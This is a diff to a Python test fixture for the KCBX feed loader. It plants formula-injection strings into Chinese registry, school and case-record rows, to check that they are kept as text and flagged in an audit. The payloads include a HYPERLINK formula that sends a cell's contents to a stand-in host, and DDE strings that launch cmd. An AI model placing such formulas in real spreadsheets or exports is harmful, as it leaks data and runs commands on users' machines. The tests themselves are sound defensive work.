@@ -19,6 +19,14 @@ import openpyxl
 from kcbx.feeds import feed as get_feed
 
 FULL_WIDTH = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")
+# Free text a spreadsheet would run (OWASP CSV injection): a full-width ＝ the loader folds
+# into '=', a DDE command, an @-function. One cell each; they must load as data, be noted
+# in audit.formula_cells and stay text in every workbook KCBX writes.
+HOSTILE_TEXT = {
+    "huji": ("姓名", '＝HYPERLINK("http://example.invalid/?d="&C3,"点此查看")'),
+    "quanfan": ("责任人", "=cmd|' /C calc'!A0"),
+    "schools": ("学校名称", "@SUM(1+1)*cmd|' /C calc'!A0"),
+}
 FORMS = ("utf-8", "utf-8-sig", "gb18030", "xlsx")
 
 
@@ -107,3 +115,23 @@ def write_file(path: Path, form: str, header: list[str], rows: Iterable[list[obj
         for row in rows:
             writer.writerow(["" if c is None else c.isoformat() if isinstance(c, date) else c for c in row])
     return path
+
+
+def plant_hostile_text(rows: dict[str, list[dict]]) -> dict[str, str]:
+    """Put HOSTILE_TEXT into the first row of each feed that has a value there (for a
+    persuasion record, into every row of that child, so it is the 责任人 of the child's
+    case whichever action is the latest); returns feed -> raw column planted."""
+    planted = {}
+    for feed_name, (header, value) in HOSTILE_TEXT.items():
+        feed_rows = rows.get(feed_name, [])
+        first = next((row for row in feed_rows if row.get(header)), None)
+        if first is None:
+            continue
+        same_child = (
+            [r for r in feed_rows if r.get("身份证号") == first.get("身份证号")] if feed_name == "quanfan" else []
+        )
+        for row in same_child or [first]:
+            if row.get(header):
+                row[header] = value
+        planted[feed_name] = next(c.col for c in get_feed(feed_name).columns if c.name == header)
+    return planted
